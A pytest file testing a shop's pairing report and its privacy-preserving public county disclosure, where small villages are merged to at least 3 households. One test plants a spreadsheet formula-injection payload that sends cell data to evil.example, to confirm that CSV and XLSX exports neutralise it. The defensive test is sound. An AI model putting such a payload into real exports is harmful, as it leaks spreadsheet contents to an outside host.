"""The pairing report and the public county disclosure: figures equal an independent computation from the
ledger's postings and the order lines; small villages are merged so that nothing concerns fewer than 3
households; the disclosure carries no personal data."""
from __future__ import annotations

import csv
import io
import json
import threading
from collections import defaultdict
from datetime import date, datetime, timedelta
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from catalog.models import LotContribution
from orders import outbox
from orders.ledger import accounts, chain, reports
from orders.ledger.models import DisclosureNotice, LedgerAccount, LedgerTransaction, Posting
from orders.ledger.periods import Month
from orders.ledger.reports import merge_villages
from orders.models import Order, OrderLine
from shop.clock import SHANGHAI
from shop.db import db, utcnow
from shop.fields import Date
from shop.regions.models import Pairing, Region
from shop.regions.service import valid_on
from suppliers.models import Household
from tests.orders.ledger.test_attribution import make_world, pay_pickup, place_pickup
from tests.orders.payments.conftest import deliver, intent_event, user_with_token
from tests.statements import statements
from tests.suppliers.factories import HouseholdFactory


def published_later(monkeypatch, *, days: int = 40) -> str:
    """Read the disclosure `days` from now, once this month is published; this month, as `?month=` takes it."""
    this_month = f"{outbox.sale_date_of(utcnow()):%Y-%m}"
    later = utcnow() + timedelta(days=days)
    monkeypatch.setattr(reports, "utcnow", lambda: later)
    return this_month


def correct_one_household_after_publication(world: dict, month: str) -> None:
    """A correction of one household's premium (10 fen back to the platform) on the month's first line, posted after
    the month was published."""
    h1, line_id = world["h"][1], db.session.scalar(select(OrderLine.id))
    chain.post(kind="line_refunded", sale_date=date.fromisoformat(f"{month}-01"), order_line_id=line_id,
               postings=[(accounts.household(h1.id, world["supplier"].id), -10, "premium",
                          {"order_line_id": line_id, "household_id": h1.id}),
                         (accounts.platform(), 10, "platform_fee", {"order_line_id": line_id})])
    db.session.commit()


def independent_report(from_date: date | None = None, to_date: date | None = None) -> dict:
    """(donor, county, paired) → figures of the lines sold in [from_date, to_date) (either end open when None),
    recomputed in Python from every line, transaction and posting."""
    paid = {t.order_line_id: t.sale_date for t in db.session.scalars(
        select(LedgerTransaction).where(LedgerTransaction.kind == "line_paid"))
        if (from_date is None or t.sale_date >= from_date) and (to_date is None or t.sale_date < to_date)}
    household_accounts = set(db.session.scalars(select(LedgerAccount.id).where(LedgerAccount.kind == "household")))
    per_line = defaultdict(lambda: defaultdict(int))
    for posting in db.session.scalars(select(Posting)):
        if posting.account_id in household_accounts and posting.component in ("premium", "dividend"):
            per_line[posting.order_line_id][posting.household_id] += posting.amount_fen
    rows: dict = {}
    for line in db.session.scalars(select(OrderLine)):
        if line.id not in paid:
            continue
        order = db.session.get(Order, line.order_id)
        paired = db.session.scalar(select(Pairing.id).where(
            Pairing.donor_code == order.donor_code, Pairing.recipient_code == line.county_code,
            valid_on(paid[line.id]))) is not None
        row = rows.setdefault((order.donor_code, line.county_code, paired),
                              {"orders": set(), "units": 0, "sales_fen": 0, "households": defaultdict(int)})
        units = line.quantity - line.refunded_quantity
        if units:
            row["orders"].add(order.id)
        row["units"] += units
        row["sales_fen"] += units * line.unit_price_fen
        for household_id, fen in per_line[line.id].items():
            row["households"][household_id] += fen
    return {key: {"orders": len(row["orders"]), "units": row["units"], "sales_fen": row["sales_fen"],
                  "households_reached": sum(1 for fen in row["households"].values() if fen),
                  "attributed_fen": sum(row["households"].values())}
            for key, row in rows.items() if row["units"] or sum(row["households"].values())}


def admin_headers(role: str = "admin") -> dict:
    """Authorization headers of a new user of `role` (committed)."""
    _, headers = user_with_token(role)
    db.session.commit()
    return headers


def _two_donors(client) -> dict:
    """The attribution world: 3 units sold at the 顺德 store (no pairing with 昭觉), 1 of them refunded, then 2
    units sold after the store moved to 禅城 (paired with 昭觉)."""
    world = make_world(today=outbox.sale_date_of(utcnow()))
    first = pay_pickup(client, world, 3)
    line_id = db.session.scalar(select(OrderLine.id).where(OrderLine.order_id == first))
    refund = client.post(f"/api/v1/orders/{first}/refunds", headers={**admin_headers(), "Idempotency-Key": "r1"},
                         json={"lines": [{"line_id": line_id, "quantity": 1}], "reason": "坏了"})
    assert refund.status_code == 201, refund.json
    world["store"].district_code = "440604"
    db.session.commit()
    pay_pickup(client, world, 2)
    return world


def test_the_pairing_report_equals_an_independent_computation_from_the_postings(racing_app):
    client = racing_app.test_client()
    _two_donors(client)

    response = client.get("/api/v1/reports/pairings", headers=admin_headers("auditor"))

    assert response.status_code == 200, response.json
    got = {(row["donor_code"], row["county_code"], row["paired"]):
           {name: row[name] for name in ("orders", "units", "sales_fen", "households_reached", "attributed_fen")}
           for row in response.json["rows"]}
    assert got == independent_report()
    assert set(got) == {("440606", "513431", False), ("440604", "513431", True)}
    assert got[("440606", "513431", False)]["units"] == 2 and got[("440604", "513431", True)]["units"] == 2
    assert all(row["attributed_fen"] > 0 for row in got.values())
    assert response.json["computed_at"]
    assert response.json["totals"]["sales_fen"] == 4 * 1250


def test_a_fully_refunded_order_counts_nowhere_and_the_period_is_by_sale_date(client, login):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    order_id = pay_pickup(client, world, 1)
    line_id = db.session.scalar(select(OrderLine.id).where(OrderLine.order_id == order_id))
    headers = login("admin")
    assert client.post(f"/api/v1/orders/{order_id}/refunds", headers={**headers, "Idempotency-Key": "r1"},
                       json={"lines": [{"line_id": line_id, "quantity": 1}], "reason": "全退"}).status_code == 201
    today = outbox.sale_date_of(utcnow())

    assert client.get("/api/v1/reports/pairings", headers=headers).json["rows"] == []
    pay_pickup(client, world, 1)
    inside = client.get(f"/api/v1/reports/pairings?from={today}&to={today + timedelta(days=1)}", headers=headers)
    after = client.get(f"/api/v1/reports/pairings?from={today + timedelta(days=1)}", headers=headers)
    empty = client.get(f"/api/v1/reports/pairings?from={today}&to={today}", headers=headers)

    assert [row["orders"] for row in inside.json["rows"]] == [1]
    assert (inside.json["from"], inside.json["to"]) == (today.isoformat(), (today + timedelta(days=1)).isoformat())
    assert after.json["rows"] == [] and (after.json["from"], after.json["to"]) == (
        (today + timedelta(days=1)).isoformat(), None)
    assert empty.status_code == 422 and "to" in empty.json["error"]["details"]


def test_the_pairing_report_as_csv_and_who_may_read_it(client, login):
    _two_donors(client)

    response = client.get("/api/v1/reports/pairings?format=csv", headers=login("admin"))

    assert response.status_code == 200 and response.mimetype == "text/csv"
    table, notes = response.get_data(as_text=True).lstrip("\ufeff").split("\r\n\r\n")
    rows = list(csv.DictReader(io.StringIO(table)))
    totals, *note_rows = csv.reader(io.StringIO(notes))
    fresh = dict(note_rows)
    report = client.get("/api/v1/reports/pairings", headers=login("admin")).json
    # the JSON's totals, aligned with their columns under the table and labelled
    assert dict(zip(reports.CSV_COLUMNS, totals, strict=True)) == {
        **dict.fromkeys(reports.CSV_COLUMNS, ""), "donor_code": "total", "donor_name": "合计",
        **{name: str(report["totals"][name]) for name in ("units", "sales_fen", "attributed_fen")}}
    assert int(totals[6]) == sum(int(row["units"]) for row in rows) == 4
    assert set(fresh) == {"from", "to", "computed_at", "fresh_as_of"} and fresh["from"] == fresh["to"] == ""
    assert datetime.fromisoformat(fresh["fresh_as_of"]) <= datetime.fromisoformat(fresh["computed_at"])
    assert {(row["donor_name"], row["county_name"], row["paired"]) for row in rows} == {
        ("顺德区", "昭觉县", "false"), ("禅城区", "昭觉县", "true")}
    assert sum(int(row["units"]) for row in rows) == 4
    assert client.get("/api/v1/reports/pairings", headers=login("consumer")).status_code == 403
    assert client.get("/api/v1/reports/pairings").status_code == 401
    workbook = client.get("/api/v1/reports/pairings?format=xlsx", headers=login("auditor"))
    sheet = load_workbook(io.BytesIO(workbook.data)).active
    assert [cell.value for cell in sheet[1]][:5] == ["donor_code", "donor_name", "county_code", "county_name",
                                                     "paired"]
    assert sorted(sheet.cell(row=n, column=7).value for n in (2, 3)) == [2, 2]  # units per row
    totals = report["totals"]
    assert [cell.value for cell in sheet[5]] == ["total", "合计", None, None, None, None, 4, totals["sales_fen"], None,
                                                 totals["attributed_fen"]]
    assert [sheet.cell(row=n, column=1).value for n in (6, 7, 8, 9)] == ["from", "to", "computed_at", "fresh_as_of"]
    assert sheet.cell(row=9, column=2).value
    chart = client.get("/api/v1/reports/pairings?format=svg", headers=login("auditor"))
    assert chart.mimetype == "image/svg+xml"
    svg = ElementTree.fromstring(chart.data)
    texts = [node.text for node in svg.iter("{http://www.w3.org/2000/svg}text")]
    assert "顺德区 → 昭觉县（未结对）" in texts and "禅城区 → 昭觉县" in texts
    assert "25.00" in texts  # 2 units × ¥12.50 sold in each row
    assert f"合计：销售额 50.00，农户所得 {report['totals']['attributed_fen'] // 100}." in texts[-1]
    [period] = [text for text in texts if text.startswith("期间 开始 至 今（不含），计算于 ")]
    computed = datetime.fromisoformat(fresh["computed_at"]).astimezone(SHANGHAI)
    assert computed.strftime("计算于 %Y-%m-%d %H:") in period and "（北京时间），数据截至 20" in period  # not UTC
    assert client.get("/api/v1/reports/pairings?format=xml", headers=login("admin")).status_code == 422


def test_names_in_the_csv_and_xlsx_reports_are_never_formulas(client, login):
    _two_donors(client)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    db.session.get(Region, "513431").name = formula
    db.session.commit()

    text = client.get("/api/v1/reports/pairings?format=csv", headers=login("admin")).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff").split("\r\n\r\n")[0])))
    assert {row["county_name"] for row in rows} == {"'" + formula}
    workbook = client.get("/api/v1/reports/pairings?format=xlsx", headers=login("admin"))
    sheet = load_workbook(io.BytesIO(workbook.data)).active
    names = [sheet.cell(row=n, column=4) for n in (2, 3)]
    assert [(cell.value, cell.data_type) for cell in names] == [(formula, "s"), (formula, "s")]


@pytest.mark.parametrize("villages,shown,other", [
    # 1 + 2 merged make 3: the merged row stands
    ({"一村": (1, 10), "二村": (2, 20), "五村": (5, 50), "三村": (3, 30)}, ["五村", "三村"], (2, 3, 30)),
    # 1 alone is fewer than 3: the smallest shown village (三村) joins it
    ({"一村": (1, 10), "五村": (5, 50), "三村": (3, 30)}, ["五村"], (2, 4, 40)),
    # 1 + 1 is fewer than 3: 丙 (the smallest shown) joins, and the merged row has 5
    ({"甲": (1, 1), "乙": (1, 1), "丙": (3, 3), "丁": (4, 4)}, ["丁"], (3, 5, 5)),
    # everything merged and still fewer than 3: no figures at all
    ({"甲": (1, 7), "乙": (1, 9)}, [], (2, None, None)),
    # nothing small: no merged row
    ({"甲": (3, 7), "乙": (4, 9)}, ["乙", "甲"], None),
])
def test_small_villages_are_merged_until_the_merged_row_has_3_households(villages, shown, other):
    rows, merged = merge_villages(villages)

    assert [row["village"] for row in rows] == shown
    assert all(row["households"] >= 3 for row in rows)
    if other is None:
        assert merged is None
    else:
        assert "villages" not in merged
        assert (merged["households"], merged["attributed_fen"]) == other[1:]
        assert merged["households"] is None or merged["households"] >= 3
        if merged["households"] is not None:
            assert sum(row["households"] for row in rows) + merged["households"] == sum(
                h for h, _ in villages.values())


def test_the_county_disclosure_is_public_sums_the_postings_and_shows_no_personal_data(racing_app, monkeypatch):
    client = racing_app.test_client()
    world = _two_donors(client)
    h = world["h"]
    for n, village in ((1, "甲村"), (3, "甲村"), (4, "甲村"), (6, "乙村")):
        h[n].village = village
    db.session.commit()
    net = defaultdict(int)
    for posting in db.session.scalars(select(Posting).where(Posting.component.in_(("premium", "dividend")),
                                                            Posting.household_id.is_not(None))):
        net[posting.household_id] += posting.amount_fen
    in_county = {hid: fen for hid, fen in net.items() if fen and h_county(world, hid) == "513431"}

    month = published_later(monkeypatch)
    response = client.get(f"/api/v1/disclosure/counties/513431?month={month}")

    assert response.status_code == 200, response.json
    body = response.json
    assert body["month"] == month and body["from"] == f"{month}-01"
    # 乙村 has 1 household: fewer than 3, so 甲村 (3) joins it and only the merged row remains
    assert body["villages"] == []
    assert body["other_villages"] == {"village": "其他村", "merged": True, "households": len(in_county),
                                      "attributed_fen": sum(in_county.values())}
    assert body["total"] == {"households": len(in_county), "attributed_fen": sum(in_county.values())}
    text = json.dumps(body, ensure_ascii=False)
    for n in (1, 3, 4, 6):
        assert h[n].head_name not in text and h[n].code not in text and h[n].id_number not in text
    assert client.get("/api/v1/disclosure/counties/999999").json["error"]["code"] == "region_not_found"
    for not_a_recipient_county in ("513400", "510000", "440604"):  # a prefecture, a province, a donor district
        refused = client.get(f"/api/v1/disclosure/counties/{not_a_recipient_county}")
        assert (refused.status_code, refused.json["error"]["code"]) == (404, "region_not_found")


def test_a_village_named_like_the_merged_row_is_told_apart_from_it(client, monkeypatch):
    """A real village may be named 其他村 (typed with a trailing space or a full-width space too): it keeps its name and
    its row says it merges nothing (`merged: false`), as the merged row of small villages says it does."""
    world, admin = _two_donors(client), admin_headers()
    h = world["h"]
    for n, typed in ((1, "其他村"), (3, "其他村 "), (4, "\u3000其他村"), (6, "其他村")):
        response = client.patch(f"/api/v1/households/{h[n].id}", json={"village": typed}, headers=admin)
        assert response.status_code == 200, response.json
    month = published_later(monkeypatch)

    body = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert [(row["village"], row["merged"], row["households"]) for row in body["villages"]] == [("其他村", False, 4)]
    assert body["other_villages"] is None


def test_a_county_with_fewer_than_3_households_reached_shows_no_amount(client, login, monkeypatch):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    pay_pickup(client, world, 3)
    month = published_later(monkeypatch)

    body = client.get(f"/api/v1/disclosure/counties/513432?month={month}").json  # only h2 lives there

    assert body["villages"] == []
    assert body["other_villages"] == {"village": "其他村", "merged": True, "households": None, "fewer_than": 3,
                                      "attributed_fen": None}
    assert body["total"] == {"households": None, "fewer_than": 3, "attributed_fen": None}


def h_county(world, household_id: int) -> str:
    """The county of one of the world's households."""
    return next(each.county_code for each in world["h"].values() if each.id == household_id)


def test_the_county_total_equals_the_sum_of_the_shown_and_merged_rows(client, monkeypatch):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    h = world["h"]
    for n in (7, 8, 9):
        h[n] = HouseholdFactory(supplier=world["supplier"])
        db.session.add(LotContribution(lot_id=world["lot1"].id, household_id=h[n].id, quantity=1, village="测试村"))
    for n, village in ((1, "甲村"), (3, "甲村"), (4, "甲村"), (7, "乙村"), (8, "乙村"), (9, "乙村"), (6, "丙村")):
        h[n].village = village
    db.session.commit()
    pay_pickup(client, world, 3)
    month = published_later(monkeypatch)

    body = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    # 丙村 (1 household) is fewer than 3: the smaller of 甲村 and 乙村 joins it; the other is shown
    assert [row["households"] for row in body["villages"]] == [3]
    assert body["other_villages"]["households"] == 4
    assert body["total"]["households"] == 7
    assert body["total"]["attributed_fen"] == (body["villages"][0]["attributed_fen"]
                                               + body["other_villages"]["attributed_fen"])
    net = defaultdict(int)
    for posting in db.session.scalars(select(Posting).where(Posting.household_id.is_not(None))):
        net[posting.household_id] += posting.amount_fen
    assert body["total"]["attributed_fen"] == sum(net[h[n].id] for n in (1, 3, 4, 6, 7, 8, 9))


def test_a_village_written_with_full_width_digits_is_the_same_village_in_the_disclosure(client, monkeypatch):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    h = world["h"]
    # 昭觉's 4 households reached, of one village: h1 and h3 registered as 三岔河村１组 (full-width digit), h4 and h6
    # as 三岔河村1组
    for n, village in ((1, "三岔河村１组"), (3, "三岔河村１组"), (4, "三岔河村1组"), (6, "三岔河村1组")):
        h[n].village = village
    db.session.commit()
    pay_pickup(client, world, 3)
    month = published_later(monkeypatch)

    body = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    # one village of 4 households, shown as such (not two of 2, both merged into "other villages")
    assert [(row["village"], row["households"]) for row in body["villages"]] == [("三岔河村1组", 4)]
    assert body["other_villages"] is None and body["total"]["households"] == 4


@pytest.mark.parametrize("url", ["/api/v1/reports/pairings?form=2026-12-01", "/api/v1/ledger/transactions?acount=x",
                                 "/api/v1/reports/pairings?format=csv&to=2026-12-01&fromm=2026-01-01"])
def test_a_misspelt_parameter_is_a_422_not_a_report_of_everything(client, login, url):
    response = client.get(url, headers=login("auditor"))
    name = url.rsplit("&", 1)[-1].split("?")[-1].split("=")[0]
    assert response.status_code == 422 and response.json["error"]["details"] == {name: ["Unknown field."]}


def test_a_month_is_disclosed_once_no_sale_can_be_dated_in_it_and_then_shown_as_published(client, login,
                                                                                          monkeypatch):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    order_id = pay_pickup(client, world, 3)
    this_month = f"{outbox.sale_date_of(utcnow()):%Y-%m}"

    live = client.get(f"/api/v1/disclosure/counties/513431?month={this_month}")
    latest = client.get("/api/v1/disclosure/counties/513431")

    # no live figure: two readings around a purchase would differ by what one household earned
    assert (live.status_code, live.json["error"]["code"]) == (409, "disclosure_not_published")
    assert latest.status_code == 200 and latest.json["month"] == live.json["error"]["details"]["latest"]
    month = published_later(monkeypatch)
    published = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    assert published["total"]["households"] == 4 and published["total"]["attributed_fen"] > 0
    assert published["revision"] is None and published["checked_at"] == published["computed_at"]
    line_id = db.session.scalar(select(OrderLine.id).where(OrderLine.order_id == order_id))
    refunded = client.post(f"/api/v1/orders/{order_id}/refunds", headers={**login("admin"), "Idempotency-Key": "r9"},
                           json={"lines": [{"line_id": line_id, "quantity": 3}], "reason": "全退"})
    assert refunded.status_code == 201, refunded.json

    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    # as published, and beside it the month as the ledger now has it: the refund took back what the 4 households got
    assert {name: again[name] for name in published if name not in ("checked_at", "revision")} == {
        name: published[name] for name in published if name not in ("checked_at", "revision")}
    assert again["revision"]["total"] == {"households": 0, "attributed_fen": 0}
    assert again["revision"]["villages"] == [] and again["revision"]["other_villages"] is None
    for query in ("month=2026-13", "month=2026-11-01", "from=2026-11-01"):
        assert client.get(f"/api/v1/disclosure/counties/513431?{query}").status_code == 422, query


def county_figures(county: str, month: str) -> dict:
    """A county's households reached and their fen in `month` (YYYY-MM), recomputed from the postings of the lines
    whose `line_paid` sale date is in that month (net of every later refund)."""
    first = date.fromisoformat(f"{month}-01")
    sold = {t.order_line_id for t in db.session.scalars(select(LedgerTransaction).where(
        LedgerTransaction.kind == "line_paid")) if (t.sale_date.year, t.sale_date.month) == (first.year, first.month)}
    net = defaultdict(int)
    for posting in db.session.scalars(select(Posting).where(Posting.component.in_(("premium", "dividend")),
                                                            Posting.household_id.is_not(None))):
        if posting.order_line_id in sold:
            net[posting.household_id] += posting.amount_fen
    reached = {hid: fen for hid, fen in net.items()
               if fen and db.session.get(Household, hid).county_code == county}
    return {"households": len(reached), "attributed_fen": sum(reached.values())}


def test_a_refund_after_publication_shows_the_revised_figures_beside_the_published_ones(client, login, monkeypatch):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    refunded_order = pay_pickup(client, world, 3)
    pay_pickup(client, world, 2)
    month = published_later(monkeypatch)
    published = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    assert published["total"] == county_figures("513431", month) and published["revision"] is None
    line_id = db.session.scalar(select(OrderLine.id).where(OrderLine.order_id == refunded_order))
    refund = client.post(f"/api/v1/orders/{refunded_order}/refunds",
                         headers={**login("admin"), "Idempotency-Key": "r1"},
                         json={"lines": [{"line_id": line_id, "quantity": 3}], "reason": "全额退款"})
    assert refund.status_code == 201, refund.json

    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert (again["total"], again["computed_at"]) == (published["total"], published["computed_at"])
    revision = again["revision"]
    # the 4 households' figures changed; what is left reached 2 of them (the second order's dividends only), which
    # the revision, by the same rule as the notice, shows as fewer than 3
    assert county_figures("513431", month) == {"households": 2, "attributed_fen": 75}
    assert revision["total"] == {"households": None, "fewer_than": 3, "attributed_fen": None}
    assert revision["villages"] == [] and revision["other_villages"]["households"] is None
    assert revision["computed_at"] == again["checked_at"] >= again["computed_at"]


def test_a_late_payment_dated_into_a_published_month_shows_in_its_revision(client, monkeypatch):
    """Stripe delivers a payment event late (a retry after an outage): the sale is dated by the event's own time,
    in a month already published, and the disclosure shows it beside what was published."""
    world = make_world(today=outbox.sale_date_of(utcnow()))
    pay_pickup(client, world, 1)
    payment, _ = place_pickup(client, world, 2)
    month = published_later(monkeypatch)
    published = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    created = int(utcnow().timestamp()) - 60

    delivered = deliver(client, intent_event("payment_intent.succeeded", payment, created=created))

    assert delivered.status_code == 200, delivered.json
    paid = db.session.scalar(select(LedgerTransaction).where(LedgerTransaction.order_id == payment.order_id))
    assert f"{paid.sale_date:%Y-%m}" == month
    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    assert again["total"] == published["total"] == {"households": 4, "attributed_fen": again["total"][
        "attributed_fen"]}
    assert again["revision"]["total"] == county_figures("513431", month)
    assert again["revision"]["total"]["attributed_fen"] > published["total"]["attributed_fen"]


def test_a_change_concerning_fewer_than_3_households_shows_no_revised_figures(client, login, monkeypatch):
    """After publication only 1 household's figure changed: revised figures would tell its amount by difference,
    so the revision only says it concerns fewer than 3 households."""
    world = make_world(today=outbox.sale_date_of(utcnow()))
    pay_pickup(client, world, 3)
    month = published_later(monkeypatch)
    published = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    correct_one_household_after_publication(world, month)

    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert again["total"] == published["total"]
    assert {key: value for key, value in again["revision"].items() if key != "computed_at"} == {
        "households": None, "fewer_than": 3}


def test_only_months_that_can_have_sales_are_published_and_reads_are_rate_limited(app, client, monkeypatch):
    world = make_world(today=outbox.sale_date_of(utcnow()))
    pay_pickup(client, world, 1)
    month = published_later(monkeypatch)
    first = date.fromisoformat(f"{month}-01")

    # 昭觉's first pairing (禅城) began in 2016-01: no sale can be dated before it (the shop's first is this month)
    for before in ("2001-01", "2015-12"):
        refused = client.get(f"/api/v1/disclosure/counties/513431?month={before}")
        assert (refused.status_code, refused.json["error"]["code"]) == (404, "disclosure_before_first_month"), before
        assert refused.json["error"]["details"] == {"month": before, "first": "2016-01"}
    unpaired = "513433"  # 冕宁, a recipient county no donor is paired with: from the shop's first sale on
    assert db.session.scalar(select(func.count()).select_from(Pairing).where(Pairing.recipient_code == unpaired)) == 0
    refused = client.get(f"/api/v1/disclosure/counties/{unpaired}?month={first - timedelta(days=1):%Y-%m}")
    assert (refused.status_code, refused.json["error"]["details"]["first"]) == (404, month)
    assert db.session.scalar(select(func.count()).select_from(DisclosureNotice)) == 0
    app.config["DISCLOSURE_RATE_LIMIT"] = "3 per minute"
    answers = [client.get(f"/api/v1/disclosure/counties/513432?month={month}").status_code for _ in range(4)]
    assert answers == [200, 200, 200, 429]
    assert db.session.scalar(select(func.count()).select_from(DisclosureNotice)) == 1


def _three_villages(client, monkeypatch) -> tuple[dict, int, str, dict]:
    """The attribution world with 7 more contributors of lot 1, a sale of 3 units, and 昭觉's households in 3
    villages: 甲村 h1 h3 h7, 乙村 h8 h9 h10 h13, 丙村 h11 h12 h4 h6 (all reached). The world, the sold line, the
    month and its published disclosure."""
    world = make_world(today=outbox.sale_date_of(utcnow()))
    h = world["h"]
    for n in range(7, 14):
        h[n] = HouseholdFactory(supplier=world["supplier"])
        db.session.add(LotContribution(lot_id=world["lot1"].id, household_id=h[n].id, quantity=1, village="测试村"))
    for village, members in (("甲村", (1, 3, 7)), ("乙村", (8, 9, 10, 13)), ("丙村", (11, 12, 4, 6))):
        for n in members:
            h[n].village = village
    db.session.commit()
    pay_pickup(client, world, 3)
    line_id = db.session.scalar(select(OrderLine.id))
    month = published_later(monkeypatch)
    published = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    assert [(row["village"], row["households"]) for row in published["villages"]] == [
        ("丙村", 4), ("乙村", 4), ("甲村", 3)] and published["other_villages"] is None
    return world, line_id, month, published


def _correct(world, line_id: int, *numbers: int, fen: int = 10) -> None:
    """A correction taking `fen` off the premium of each of the households `numbers` on the line, posted now."""
    postings = []
    for n in numbers:
        household = world["h"][n]
        postings += [(accounts.household(household.id, world["supplier"].id), -fen, "premium",
                      {"order_line_id": line_id, "household_id": household.id}),
                     (accounts.platform(), fen, "platform_fee", {"order_line_id": line_id})]
    chain.post(kind="line_refunded", sale_date=date.today(), order_line_id=line_id, postings=postings)
    db.session.commit()


def test_a_revision_shows_no_village_whose_change_concerns_fewer_than_3_households(client, monkeypatch):
    """3 households changed after publication, one in each village: each village's revised figure, less its
    published one, would be one household's change, so the revision only says it concerns fewer than 3."""
    world, line_id, month, published = _three_villages(client, monkeypatch)

    _correct(world, line_id, 1, 8, 11)
    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert again["villages"] == published["villages"]
    assert {key: value for key, value in again["revision"].items() if key != "computed_at"} == {
        "households": None, "fewer_than": 3}


def test_a_revision_shows_a_village_whose_change_concerns_at_least_3_households(client, monkeypatch):
    world, line_id, month, published = _three_villages(client, monkeypatch)

    _correct(world, line_id, 1, 3, 7)
    revision = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json["revision"]

    shown = {row["village"]: row["attributed_fen"] for row in revision["villages"]}
    before = {row["village"]: row["attributed_fen"] for row in published["villages"]}
    assert shown == {**before, "甲村": before["甲村"] - 30}
    assert revision["total"]["attributed_fen"] == published["total"]["attributed_fen"] - 30


def test_two_revisions_read_one_after_the_other_never_differ_by_fewer_than_3_households(client, monkeypatch):
    """A revision once shown is public: a reader who keeps its figures and reads again later must not learn from the
    difference what changed for 1 or 2 households. After 3 households of 甲村 changed (a revision shown), one more
    change of h1 alone leaves the revision shown as it was; only 3 more changes in the row show a new one."""
    world, line_id, month, published = _three_villages(client, monkeypatch)
    _correct(world, line_id, 1, 3, 7)
    first = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json["revision"]
    assert first["total"]["attributed_fen"] == published["total"]["attributed_fen"] - 30

    _correct(world, line_id, 1)
    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json["revision"]

    assert again == first  # its 甲村 less the first's would be h1's own correction

    _correct(world, line_id, 1, 3, 7)
    later = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json["revision"]
    shown = {row["village"]: row["attributed_fen"] for row in later["villages"]}
    before = {row["village"]: row["attributed_fen"] for row in published["villages"]}
    assert shown == {**before, "甲村": before["甲村"] - 70}
    assert later != first


def test_a_reading_costs_the_same_statements_whatever_the_number_of_revisions_kept(client, monkeypatch):
    """A change waiting to be shown is compared with the published figures and with every revision kept; that reading
    runs as many statements with 5 revisions kept as with 1 (not 2 more per revision)."""
    world, line_id, month, _published = _three_villages(client, monkeypatch)
    url = f"/api/v1/disclosure/counties/513431?month={month}"
    costs, kept = [], []
    for _ in range(5):
        _correct(world, line_id, 1, 3, 7)
        with statements() as read:
            assert client.get(url).status_code == 200
        costs.append(len(read))
        kept.append(len(db.session.scalar(select(DisclosureNotice.revisions))))

    assert kept == [1, 2, 3, 4, 5]  # each reading compared a waiting change with all kept before and showed it
    assert costs[1:] == [costs[1]] * 4, costs


def test_a_household_moved_to_another_village_after_publication_is_not_told_by_the_revision(client, monkeypatch):
    """h8 moved from 乙村 to 甲村 after publication, its figures unchanged, while 3 households of 丙村 changed: the
    revised 甲村 less the published one would be h8's amount, so the revision only says it concerns fewer than 3."""
    world, line_id, month, published = _three_villages(client, monkeypatch)

    world["h"][8].village = "甲村"
    db.session.commit()
    _correct(world, line_id, 11, 12, 4)
    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert again["villages"] == published["villages"] and "members" not in again
    assert {key: value for key, value in again["revision"].items() if key != "computed_at"} == {
        "households": None, "fewer_than": 3}


def test_a_revision_that_merges_villages_afresh_does_not_tell_an_unchanged_households_amount(client, monkeypatch):
    """h8, h9 and h10 of 乙村 were fully corrected after publication: 乙村 keeps h13 alone, so the revision merges it
    with 甲村 (the smallest shown village) into "other villages"; that row less the published 甲村 would be h13's
    amount, which did not change. So the revision only says it concerns fewer than 3."""
    world, line_id, month, published = _three_villages(client, monkeypatch)
    postings = []
    for n in (8, 9, 10):
        household = world["h"][n]
        fen = int(db.session.scalar(select(func.sum(Posting.amount_fen)).where(
            Posting.household_id == household.id, Posting.order_line_id == line_id)))
        postings += [(accounts.household(household.id, world["supplier"].id), -fen, "premium",
                      {"order_line_id": line_id, "household_id": household.id}),
                     (accounts.platform(), fen, "platform_fee", {"order_line_id": line_id})]
    chain.post(kind="line_refunded", sale_date=date.today(), order_line_id=line_id, postings=postings)
    db.session.commit()

    again = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json

    assert again["villages"] == published["villages"]
    assert {key: value for key, value in again["revision"].items() if key != "computed_at"} == {
        "households": None, "fewer_than": 3}


@pytest.mark.postgres
def test_a_correction_linked_while_a_month_is_first_published_shows_in_its_revision(pg_app, monkeypatch):
    """A correction committed while the first reading computes the month's figures (after it read the postings,
    before it wrote the notice) is not in the published figures, so the month's readings show a revision (here only
    that it concerns fewer than 3): the notice never differs from the ledger silently."""
    client = pg_app.test_client()
    world = make_world(today=outbox.sale_date_of(utcnow()))
    pay_pickup(client, world, 3)
    month = published_later(monkeypatch)
    line_id, household_id, supplier_id = db.session.scalar(select(OrderLine.id)), world["h"][1].id, world["supplier"].id
    figures = reports._reached

    def correct() -> None:
        with pg_app.app_context():
            chain.post(kind="line_refunded", sale_date=date.fromisoformat(f"{month}-01"), order_line_id=line_id,
                       postings=[(accounts.household(household_id, supplier_id), -10, "premium",
                                  {"order_line_id": line_id, "household_id": household_id}),
                                 (accounts.platform(), 10, "platform_fee", {"order_line_id": line_id})])
            db.session.commit()

    def reached_then_corrected(*args):
        result = figures(*args)
        corrector = threading.Thread(target=correct)
        corrector.start()
        corrector.join()
        return result

    monkeypatch.setattr(reports, "_reached", reached_then_corrected)
    published = client.get(f"/api/v1/disclosure/counties/513431?month={month}").json
    monkeypatch.setattr(reports, "_reached", figures)
